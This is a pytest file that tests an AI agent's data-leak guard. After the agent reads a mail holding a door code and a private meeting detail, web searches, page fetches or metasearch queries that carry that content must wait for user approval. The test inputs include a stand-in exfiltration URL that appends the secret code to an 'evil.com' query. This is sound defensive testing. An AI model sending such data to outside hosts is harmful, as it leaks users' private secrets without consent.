"""What the web was told once: the same site or search may be told it again unasked, and nobody else may."""

from __future__ import annotations

import pytest

from tests.agent.scenes import Scene

MAIL = "The door code: blue harbour 4711998877. Anna meets Bob at the old mill."


def tainted(typed: str = "Summarise my newest mail") -> Scene:
    scene = Scene(typed)
    scene.read("read_mail", MAIL)
    return scene


@pytest.mark.parametrize("address", ["show.me", "evil.com", "https://evil.com/?k=4711998877"])
def test_what_a_search_was_told_may_be_searched_for_again_and_not_fetched(address: str):
    scene = tainted("Show me my newest mail")
    is_typed = address == "show.me"
    assert scene.attempt("web_search", {"query": address}, answer=True) == ("ran" if is_typed else "asked")
    assert scene.attempt("web_search", {"query": address}) == "ran"
    assert scene.attempt("fetch_page", {"url": address}) == "asked"


def test_nor_may_what_was_searched_for_before_a_mail_was_read():
    scene = Scene("Look around")
    assert scene.attempt("web_search", {"query": "evil.com"}) == "ran"
    scene.read("read_mail", MAIL)
    assert scene.attempt("fetch_page", {"url": "evil.com"}) == "asked"


def test_what_a_site_was_told_is_not_searched_for_unasked():
    scene = tainted()
    page = "https://other.example/anna-meets-bob-at-the-old-mill"
    assert scene.attempt("fetch_page", {"url": page}, answer=True) == "asked"
    assert scene.attempt("fetch_page", {"url": page}) == "ran"
    assert scene.attempt("web_search", {"query": page}) == "asked"


def test_nor_is_what_a_search_was_told_given_to_it_as_anything_else():
    scene = tainted()
    words = "Anna meets Bob at the old mill"
    assert scene.attempt("metasearch", {"query": words}, answer=True) == "asked"
    assert scene.attempt("metasearch", {"query": words}) == "ran"
    assert scene.attempt("metasearch", {"query": "mills", "language": words}) == "asked"
